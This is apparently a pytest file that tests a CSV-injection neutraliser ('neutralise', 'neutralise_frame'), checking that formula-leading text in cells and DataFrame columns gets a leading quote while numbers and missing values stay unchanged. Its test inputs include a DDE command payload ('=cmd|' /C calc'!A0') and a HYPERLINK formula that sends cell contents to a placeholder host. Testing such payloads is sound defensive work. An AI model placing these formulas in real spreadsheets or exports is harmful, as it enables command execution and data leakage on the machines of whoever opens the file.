"""core.safe_text: OWASP's CSV-injection rule, cell by cell and over a whole frame."""

from __future__ import annotations

import math

import numpy as np
import pandas as pd
import pytest

from core.safe_text import neutralise, neutralise_frame


@pytest.mark.parametrize(("text", "expected"), [
    ('=HYPERLINK("http://x"&A1,"Click")', '\'=HYPERLINK("http://x"&A1,"Click")'),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("+SUM(1,2)", "'+SUM(1,2)"),
    ("@SUM(1,2)", "'@SUM(1,2)"),
    ("-2+3", "'-2+3"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
])
def test_formula_text_gets_a_leading_quote(text: str, expected: str):
    assert neutralise(text) == expected


@pytest.mark.parametrize("text", ["Passport renewal", "", " =1+1", "1-2", "a=b", "'=already quoted", "5"])
def test_ordinary_text_is_unchanged(text: str):
    assert neutralise(text) == text


def test_numbers_and_missing_values_are_unchanged():
    assert neutralise(-3.5) == -3.5 and isinstance(neutralise(-3.5), float)
    assert neutralise(-7) == -7
    assert neutralise(np.float64(-0.25)) == np.float64(-0.25)
    assert neutralise(None) is None
    assert math.isnan(neutralise(float("nan")))
    assert neutralise(pd.NA) is pd.NA


def test_frame_text_columns_are_neutralised_numbers_kept():
    frame = pd.DataFrame({
        "service_name": ["=HYPERLINK(\"http://x\"&A1,\"Click\")", "Passports", None],
        "comment": pd.Series(["@SUM(1,2)", pd.NA, "-2+3"], dtype="string"),
        "score": [-2.5, 3.0, np.nan],
        "count": [-4, 5, 6],
        "mixed": ["+SUM(1,2)", -1, "ok"],
        "=label": ["a", "b", "c"],
    })
    out = neutralise_frame(frame)
    assert out["service_name"].tolist()[:2] == ["'=HYPERLINK(\"http://x\"&A1,\"Click\")", "Passports"]
    assert pd.isna(out["service_name"].iloc[2])
    assert out["comment"].iloc[0] == "'@SUM(1,2)" and pd.isna(out["comment"].iloc[1])
    assert out["comment"].iloc[2] == "'-2+3"
    assert out["score"].iloc[0] == -2.5 and out["score"].dtype == np.float64 and pd.isna(out["score"].iloc[2])
    assert out["count"].tolist() == [-4, 5, 6] and out["count"].dtype == frame["count"].dtype
    assert out["mixed"].tolist() == ["'+SUM(1,2)", -1, "ok"]
    assert list(out.columns) == ["service_name", "comment", "score", "count", "mixed", "'=label"]
    # the input is not changed
    assert frame["service_name"].iloc[0].startswith("=") and "=label" in frame.columns


def test_categorical_text_is_neutralised():
    frame = pd.DataFrame({"channel": pd.Categorical(["=1+1", "phone", "=1+1"])})
    assert neutralise_frame(frame)["channel"].tolist() == ["'=1+1", "phone", "'=1+1"]
